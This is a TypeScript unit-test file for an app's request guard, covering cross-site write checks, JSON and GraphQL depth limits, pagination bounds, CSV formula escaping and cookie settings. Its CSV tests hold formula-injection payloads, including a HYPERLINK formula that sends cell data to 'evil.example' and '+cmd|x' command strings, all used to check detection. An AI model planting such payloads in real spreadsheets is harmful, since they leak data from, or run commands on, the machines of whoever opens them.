/**
 * The request guard's pure parts (issue 12 #3, #8 and the hardening): where a write may come
 * from, how deep a body may nest, what a GraphQL query may ask, which CSV cells are formulae.
 * The HTTP behaviour is in tests/int/security.test.ts and bad-input.test.ts.
 */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'

import { secureCookies } from '@/env'
import { FORMULA, toCsv } from '@/lib/csv'
import { GRAPHQL_DEPTH_LIMIT, graphqlQueryProblem } from '@/lib/graphqlBounds'
import { allowedOrigins } from '@/lib/origins'
import { pageProblem } from '@/lib/pageBounds'
import { crossSiteRefusal, jsonDepth } from '@/lib/requestGuard'

const request = (method: string, headers: Record<string, string>) => new Request('http://127.0.0.1:3000/api/customers/1/advances', { method, headers })

describe('crossSiteRefusal: a write must come from this app or a listed origin', () => {
  const host = { Host: 'tally.example:3000' }
  it.each([
    ['POST, same-origin Origin', 'POST', { ...host, Origin: 'http://tally.example:3000' }, null],
    ['POST, Origin on another port', 'POST', { ...host, Origin: 'http://tally.example:3999' }, /may not call/],
    ['POST, Origin of another site', 'PATCH', { ...host, Origin: 'http://evil.example' }, /may not call/],
    ['DELETE, Origin null', 'DELETE', { ...host, Origin: 'null' }, /may not call/],
    ['POST, cookie, no Origin, own Referer', 'POST', { ...host, Cookie: 'payload-token=x', Referer: 'http://tally.example:3000/pos' }, null],
    ['POST, cookie, no Origin, foreign Referer', 'POST', { ...host, Cookie: 'payload-token=x', Referer: 'http://evil.example/' }, /session cookie/],
    ['POST, cookie, neither', 'POST', { ...host, Cookie: 'theme=dark; payload-token=x' }, /session cookie/],
    ['POST, no cookie, neither (a server calling with a JWT)', 'POST', { ...host, Authorization: 'JWT x' }, null],
    ['GET with the cookie from another site (reads change nothing)', 'GET', { ...host, Cookie: 'payload-token=x', Origin: 'http://evil.example' }, null],
    ['behind a proxy: X-Forwarded-Host is the origin the browser saw', 'POST', { Host: 'app:3000', 'X-Forwarded-Host': 'shop.example', Origin: 'https://shop.example' }, null],
  ] as const)('%s', (_what, method, headers, expected) => {
    const refusal = crossSiteRefusal(request(method, headers))
    if (expected === null) expect(refusal).toBeNull()
    else expect(refusal).toMatch(expected)
  })

  it('TALLY_ALLOWED_ORIGINS and TALLY_SERVER_URL list other origins, exactly', () => {
    expect(allowedOrigins({ TALLY_ALLOWED_ORIGINS: ' https://till.example , not a url,https://b.example:8443/path', TALLY_SERVER_URL: 'https://public.example' })).toEqual([
      'https://till.example',
      'https://b.example:8443',
      'https://public.example',
    ])
    expect(allowedOrigins({})).toEqual([])
  })
})

describe('jsonDepth', () => {
  const depthOf = (value: unknown): number => (value !== null && typeof value === 'object' ? 1 + Math.max(0, ...Object.values(value as object).map(depthOf)) : 0)

  it('is the nesting of objects and arrays, brackets inside strings not counted', () => {
    fc.assert(
      fc.property(fc.jsonValue({ maxDepth: 8 }), (value) => {
        expect(jsonDepth(JSON.stringify(value), 100)).toBe(depthOf(value))
      }),
    )
    expect(jsonDepth('{"a":"{[{[\\"}]","b":[1,[2]]}')).toBe(3)
  })

  it('stops one level past the limit on a body nested 10^6 deep, without recursion', () => {
    expect(jsonDepth('['.repeat(1_000_000), 32)).toBe(33)
  })
})

describe('graphqlQueryProblem', () => {
  it.each([
    ['{ Customers(limit: 10) { docs { id name store { name } } } }', null],
    ['{ Customers(limit: 0) { docs { id } } }', /limit/],
    ['{ Customers(limit: 1001) { docs { id } } }', /limit/],
    ['{ Customers(pagination: false) { docs { id } } }', /pagination/],
    [`{ Transactions { docs { ${'reversalOf { '.repeat(GRAPHQL_DEPTH_LIMIT)}id${' }'.repeat(GRAPHQL_DEPTH_LIMIT)} } } }`, /too deep/],
    [`{ a ${'{ a '.repeat(50)}${'}'.repeat(51)}`, /brackets/],
    ['{ this does not parse', null],
  ])('%s', (query, expected) => {
    const problem = graphqlQueryProblem(query)
    if (expected === null) expect(problem).toBeNull()
    else expect(problem?.message).toMatch(expected)
  })

  it('reads limit from variables', () => {
    expect(graphqlQueryProblem('query Q($n: Int) { Customers(limit: $n) { docs { id } } }', { n: 0 })?.field).toBe('limit')
    expect(graphqlQueryProblem('query Q($n: Int) { Customers(limit: $n) { docs { id } } }', { n: 5 })).toBeNull()
  })

  it('measures each fragment once: a fan-out of fragments is quick', () => {
    const fragments = Array.from({ length: 30 }, (_, i) => `fragment F${i} on Customer { id ${i < 29 ? `...F${i + 1} ...F${i + 1}` : ''} }`).join(' ')
    const started = Date.now()
    expect(graphqlQueryProblem(`{ Customers(limit: 1) { docs { ...F0 } } } ${fragments}`)).toBeNull()
    expect(Date.now() - started).toBeLessThan(1_000)
  })
})

describe('pageProblem', () => {
  it.each([
    [undefined, undefined, null],
    ['10', undefined, null],
    [1000, undefined, null],
    ['0', undefined, 'limit'],
    [0, undefined, 'limit'],
    ['-1', undefined, 'limit'],
    ['1001', undefined, 'limit'],
    ['x', undefined, 'limit'],
    [undefined, 'false', 'pagination'],
    [undefined, false, 'pagination'],
  ])('limit %o, pagination %o → %s', (limit, pagination, field) => {
    expect(pageProblem(limit, pagination)?.field ?? null).toBe(field)
  })
})

describe('CSV formulae (issue 12 #9)', () => {
  it.each(['=1+1', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|x', '-2+3+cmd|x', '@SUM(A1)', '\t=1', '\r=1', '  =1+1', '+', '-'])('%j is a formula', (cell) => {
    expect(FORMULA.test(cell)).toBe(true)
  })
  it.each(['+919876543210', '-600.00', '-1,200.50', '1,200.00', 'Priya Sharma', 'a=b', ''])('%j is not', (cell) => {
    expect(FORMULA.test(cell)).toBe(false)
  })
  it('toCsv writes a formula cell as quoted text', () => {
    expect(toCsv([{ name: '=1+1', phone: '+919876543210' }], ['name', 'phone'])).toBe(`name,phone\r\n"'=1+1",+919876543210`)
  })
})

describe('secureCookies', () => {
  it('Secure in production unless TALLY_INSECURE_COOKIES=true; never in development', () => {
    expect(secureCookies({ NODE_ENV: 'production' })).toBe(true)
    expect(secureCookies({ NODE_ENV: 'production', TALLY_INSECURE_COOKIES: 'true' })).toBe(false)
    expect(secureCookies({ NODE_ENV: 'development' })).toBe(false)
    expect(secureCookies({ NODE_ENV: 'test' })).toBe(false)
  })
})
